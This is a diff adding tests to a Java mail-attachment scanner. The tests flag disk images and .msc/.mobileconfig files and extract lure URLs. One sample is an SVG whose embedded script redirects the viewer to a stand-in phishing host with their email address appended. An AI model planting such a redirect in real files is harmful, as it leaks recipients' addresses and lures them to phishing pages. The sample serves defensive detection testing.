@@ -66,6 +66,10 @@ class AttachmentSignsTest {
                         "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1" + zeros
                                 + "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0"),
                 "file-macro");
+        kinds.put(new File("a.img", "\0".repeat(0x8001) + "BEA01\1" + zeros), "file-disk");
+        kinds.put(new File("a.iso", "\0".repeat(0x8001) + "CD001\1" + zeros), "file-disk");
+        kinds.put(new File("Report.msc", "<?xml version=\"1.0\"?><MMC_ConsoleFile/>"), "file-program");
+        kinds.put(new File("Wifi.mobileconfig", "<?xml version=\"1.0\"?><plist/>"), "file-program");
         List<String> missed = new ArrayList<>();
         kinds.forEach((file, reason) -> {
             List<String> seen = reasons(file, "see");
@@ -160,6 +164,29 @@ class AttachmentSignsTest {
                                 + "<a href='https://next.example/A'>next</a><a href='#top'>top</a></html>"),
                 "see");
         assertEquals(List.of("https://next.example/A", "https://Collect.example/Post.php"), verdict.urls());
+        assertEquals(
+                List.of("https://Lure.example/go?e="),
+                verdict(
+                                new File(
+                                        "Voice.svg",
+                                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https:\\/\\/Lure."
+                                                + "example\\/go?e='+mail;</script></svg>"),
+                                "see")
+                        .urls());
+    }
+
+    /// A calendar shows an invitation that nobody opened.
+    @Test
+    void whereAnInvitationLeadsTheMailLeads() {
+        String mail = "From: a@b.example\nTo: c@d.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;"
+                + " boundary=b\n\n--b\nContent-Type: text/plain\n\nsee\n--b\nContent-Type: text/calendar; name=invite.ics\n"
+                + "Content-Disposition: attachment; filename=invite.ics\n\nBEGIN:VCALENDAR\nDESCRIPTION:Pay at"
+                + " https://lure.exam\n ple/meet\\nor call\nEND:VCALENDAR\n--b--\n";
+        assertEquals(
+                List.of("https://lure.example/meet"),
+                new MailScanner(MailScanner.Settings.DEFAULT)
+                        .scan(mail.getBytes(StandardCharsets.UTF_8), "", false)
+                        .urls());
     }
 
     @Test
